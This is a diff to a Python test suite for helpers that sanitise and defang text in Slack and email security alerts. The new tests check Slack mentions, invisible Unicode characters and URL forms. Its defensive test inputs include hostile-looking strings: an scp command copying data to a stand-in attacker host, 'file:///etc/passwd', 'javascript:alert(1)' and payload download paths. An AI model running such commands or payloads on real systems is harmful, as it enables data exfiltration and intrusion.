@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import re
 import time
+import unicodedata
 
 import pytest
 from hypothesis import given, settings
@@ -35,6 +36,7 @@ UNSAFE = re.compile(
     "\u2066-\u2069\ud800-\udfff\ufeff\U000e0000-\U000e007f]"
 )
 SLACK_MENTION = re.compile(r"<[!@#]|@(?:here|channel|everyone)\b|@\w")
+SLACK_ENTITY_MENTION = re.compile(r"<[!@#]")
 HOSTILE = (
     "<!channel> @here <@U123> `x` ```y``` *bold* _it_ ~s~ > quote "
     "<https://evil.example|click> [approve](https://evil.example/x) www.evil.example "
@@ -58,11 +60,13 @@ def inner(span: str) -> str:
     return span[1:-1]
 
 
-def assert_slack_safe(text: str) -> None:
+def assert_slack_safe(text: str, *, code: bool = False) -> None:
+    """Nothing Slack interprets. Inside code (`code`), Slack parses no mention, so a literal
+    `@here` is inert there and kept (analysts copy addresses); `<!here>` forms never pass."""
     assert not UNSAFE.search(text)
     assert "<" not in text
     assert ">" not in text
-    assert not SLACK_MENTION.search(text)
+    assert not (SLACK_ENTITY_MENTION if code else SLACK_MENTION).search(text)
     assert "https://" not in text.lower()
     assert "http://" not in text.lower()
     # Every & starts one of the three entities Slack knows: nothing half-escaped survives a cut.
@@ -70,11 +74,16 @@ def assert_slack_safe(text: str) -> None:
 
 
 @pytest.mark.parametrize("mention", MENTIONS)
-def test_slack_code_breaks_every_mention(mention: str) -> None:
+def test_slack_code_keeps_every_mention_inert(mention: str) -> None:
     rendered = slack_code(f"hello {mention} team")
 
-    assert_slack_safe(rendered)
+    assert_slack_safe(rendered, code=True)
     assert "hello" in rendered
+
+
+def test_slack_code_and_block_keep_at_signs_so_iocs_can_be_copied() -> None:
+    assert slack_code("mail bob@evil.example") == "`mail bob@evil.example`"
+    assert "attacker@203.0.113.9" in slack_block("scp x attacker@203.0.113.9:/tmp", 200)
 
 
 def test_slack_code_keeps_links_literal_and_defanged() -> None:
@@ -132,7 +141,7 @@ def test_slack_block_keeps_lines_but_nothing_interpretable() -> None:
 
     assert rendered.count("\n") == 2
     assert "`" not in rendered
-    assert_slack_safe(rendered.replace("\n", " "))
+    assert_slack_safe(rendered.replace("\n", " "), code=True)
 
 
 def test_visible_controls_removes_invisible_and_control_characters_visibly() -> None:
@@ -216,7 +225,7 @@ def test_slack_code_property(text: str, limit: int) -> None:
     if rendered != EMPTY:
         assert "`" not in inner(rendered)
         assert "\n" not in rendered
-        assert_slack_safe(rendered)
+        assert_slack_safe(rendered, code=True)
 
 
 @settings(max_examples=300, deadline=None)
@@ -270,5 +279,116 @@ def test_helpers_handle_300_kb_in_linear_time(text: str) -> None:
     # A quadratic or backtracking pass over 300 KB takes minutes; linear passes take milliseconds.
     assert time.perf_counter() - started < 3.0
     assert all(len(rendered) <= limit for limit, rendered in bounded.items())
-    # email_block bounds the shown source; each shown line adds its indent, plus one note line.
-    assert len(block) <= 10_000 + 5 * (block.count("\n") + 1) + 60
+    # email_block bounds the shown source; defanging at most triples it (`.` -> `[.]`), each
+    # shown line adds its indent, plus one note line.
+    assert len(block) <= 3 * 10_000 + 5 * (block.count("\n") + 1) + 60
+
+
+def _neutralised_set() -> set[str]:
+    """Independently of the implementation: the characters a reader must never get raw."""
+    categories = {"Cc", "Cf", "Co", "Cn", "Cs", "Zl", "Zp"}
+    blank_or_selector = {
+        *range(0xFE00, 0xFE10),
+        *range(0xE0100, 0xE01F0),
+        *range(0x180B, 0x1810),
+        0x034F,
+        0x115F,
+        0x1160,
+        0x17B4,
+        0x17B5,
+        0x2800,
+        0x3164,
+        0xFFA0,
+    }
+    return {
+        chr(code)
+        for code in range(0x110000)
+        if code not in (0x09, 0x0A)
+        and (code in blank_or_selector or unicodedata.category(chr(code)) in categories)
+    }
+
+
+NEUTRALISED = _neutralised_set()
+
+
+def test_every_code_point_of_the_unsafe_categories_is_made_visible() -> None:
+    """All of Unicode, in chunks: no Cc/Cf/Co/Cn/Cs/Zl/Zp character, variation selector or
+    blank-looking filler survives; every other character passes unchanged."""
+    escape = re.compile(r"\\(?:x[0-9a-f]{2}|u[0-9a-f]{4}|U[0-9a-f]{8})")
+    for start in range(0, 0x110000, 0x10000):
+        # \r\n is one line break and a backslash would blur the escapes: both tested elsewhere.
+        codes = (c for c in range(start, start + 0x10000) if c not in (0x0D, 0x5C))
+        chunk = "".join(chr(code) for code in codes)
+        rendered = visible_controls(chunk)
+        assert not NEUTRALISED.intersection(rendered), hex(start)
+        # Everything else passes unchanged: without the escapes, the rest is back, in order.
+        kept = "".join(ch for ch in chunk if ch not in NEUTRALISED)
+        assert escape.sub("", rendered).replace("\n", "") == kept.replace("\n", ""), hex(start)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [0xFE00, 0xFE0F, 0xE0100, 0xE01EF, 0x3164, 0xFFA0, 0x2800, 0x180B, 0x180E, 0x115F, 0x034F],
+)
+def test_the_reported_invisible_characters_are_escaped_everywhere(code: int) -> None:
+    hidden = f"value{chr(code)}end"
+    escaped = f"\\u{code:04x}" if code <= 0xFFFF else f"\\U{code:08x}"
+
+    for rendered in (
+        visible_controls(hidden),
+        email_line(hidden, 100),
+        slack_code(hidden),
+        slack_text(hidden, 100),
+        slack_block(hidden, 100),
+        email_block(hidden),
+    ):
+        assert chr(code) not in rendered
+        assert escaped in rendered
+
+
+@settings(max_examples=500, deadline=None)
+@given(text=st.text(alphabet=st.characters(codec=None), max_size=100))
+def test_no_unsafe_character_survives_any_helper(text: str) -> None:
+    for rendered in (
+        email_line(text, 400),
+        email_block(text),
+        slack_code(text, 400),
+        slack_text(text, 400),
+        slack_block(text, 400),
+        slack_token(text, 400),
+    ):
+        assert not NEUTRALISED.intersection(rendered)
+
+
+@pytest.mark.parametrize(
+    ("raw", "linkable", "defanged"),
+    [
+        ("\\\\203.0.113.9\\share\\x.exe", "\\\\203", "[\\\\]203[.]0[.]113[.]9\\share"),
+        ("open evil.example/payload.sh", "evil.example", "evil[.]example/payload[.]sh"),
+        ("see evil.example now", "evil.example", "evil[.]example"),
+        ("get 203.0.113.9/x.exe", "203.0.113.9/", "203[.]0[.]113[.]9/x[.]exe"),
+        ("203.0.113.9:8080 listener", "203.0.113.9:", "203[.]0[.]113[.]9:8080"),
+        ("https:/evil.example", "https:", "hxxps:/evil[.]example"),
+        ("HTTP:\\\\evil", "HTTP:", "HxxP:[\\\\]evil"),
+        ("https://evil.example/x", "https://", "hxxps://evil[.]example/x"),
+        ("mail user@evil now", "user@evil", "user[@]evil"),
+        ("javascript:alert(1)", "javascript:", "javascript[:]alert(1)"),
+        ("data:text/html;base64,PHNjcmlwdD4=", "data:", "data[:]text/html"),
+        ("mailto:ceo@evil.example", "mailto:", "mailto[:]ceo[@]evil[.]example"),
+        ("file:///etc/passwd", "file:", "file[:]///etc/passwd"),
+        ("www.evil.example", "www.evil", "www[.]evil[.]example"),
+        ("evil\u200b.example/x", "evil.example", "\\u200b[.]example"),
+    ],
+)
+def test_email_defangs_every_form_a_mail_client_links(
+    raw: str, linkable: str, defanged: str
+) -> None:
+    for rendered in (email_line(raw, 200), email_block(raw)):
+        assert linkable not in rendered
+        assert defanged in rendered
+
+
+def test_email_keeps_version_numbers_and_dotted_ids_readable() -> None:
+    assert email_line("Boto3/1.35.90 python#3.12.8 i-0abc 10.0.0.1", 200) == (
+        "Boto3/1.35.90 python#3.12.8 i-0abc 10.0.0.1"
+    )
